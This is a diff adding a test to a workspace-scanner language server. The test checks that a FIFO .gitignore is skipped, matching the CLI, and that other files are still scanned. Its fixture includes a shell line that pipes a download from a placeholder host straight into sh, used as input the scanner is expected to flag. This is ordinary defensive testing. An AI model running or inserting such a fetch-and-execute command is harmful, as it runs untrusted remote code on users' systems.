@@ -1,4 +1,5 @@
 import * as assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
 import * as path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { CancellationTokenSource } from 'vscode-jsonrpc/node';
@@ -93,6 +94,21 @@ describe('Scan Workspace on the CLI’s worker threads', function () {
       .get(uriOf(path.join(root, 'web', 'Dockerfile')))!
       .find((d) => d.code === 'image-untagged');
     assert.equal(untagged?.severity, 1);
+  });
+
+  it('lists a FIFO .gitignore as skipped, as the CLI does, and scans the rest', async () => {
+    const root = tempTree({ 'web/Dockerfile': 'FROM nginx\n', 'web/app.sh': 'curl -s https://x.example | sh\n' });
+    execFileSync('mkfifo', [path.join(root, 'web', '.gitignore')]);
+    const cli = await scan(testEngine(), { paths: [root], threads: 1 });
+    client = LspTestClient.inProcess();
+    const { result, published } = await serverScan(client, root);
+    const skipped = result.skipped.map((s) => [s.uri, s.reason]);
+    assert.deepEqual(skipped, [[uriOf(path.join(root, 'web', '.gitignore')), 'not read: not a regular file (a FIFO)']]);
+    assert.deepEqual(
+      cli.skipped.map((s) => [uriOf(s.path), s.reason]),
+      skipped,
+    );
+    assert.equal(published.get(uriOf(path.join(root, 'web', 'app.sh')))?.length, 1);
   });
 
   it('reports progress with the total and stops when cancelled, workers included', async () => {
